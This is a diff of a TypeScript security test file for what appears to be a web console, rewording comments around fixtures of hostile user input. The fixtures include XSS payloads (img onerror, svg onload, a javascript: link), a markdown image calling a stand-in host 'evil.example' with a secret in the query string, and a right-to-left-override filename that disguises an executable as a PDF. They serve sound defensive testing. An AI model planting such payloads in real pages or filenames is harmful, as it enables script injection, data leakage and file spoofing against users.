@@ -6,12 +6,12 @@ import { addPerson, newOrganisation, openConsole } from './console.ts';
 import type { Organisation } from './console.ts';
 import { visit } from './visit.ts';
 
-// Names and texts that other people give, on each page where somebody else reads them.
+// Hostile names and texts of other people, on each page that shows them.
 
 const slowly = { timeout: 60_000 };
 const evil = 'https://evil.example/?q=SECRET';
 const markup = `<img src=x onerror=hit=1><svg onload=hit=1> ![a](${evil}) [b](javascript:hit=1)`;
-/** Turns what follows around where it is not shut in: "fdp.exe" reads "exe.pdf". */
+/** U+202E reverses the text behind it unless isolated: "exe.pdf" then looks like "fdp.exe". */
 const turned = '\u202eexe.pdf';
 const long = 'W'.repeat(300);
 
@@ -22,7 +22,7 @@ const planted = [
 
 const folderPath = `old/<svg onload=hit=1>${'W'.repeat(60)}`;
 
-/** Where some of it is read as text; the other pages have it in fields, or in the menu alone. */
+/** Pages that show planted text. The other pages have it in fields or in the menu alone. */
 const showing = [
   '/documents',
   `/documents?folder=${encodeURIComponent(folderPath)}`,
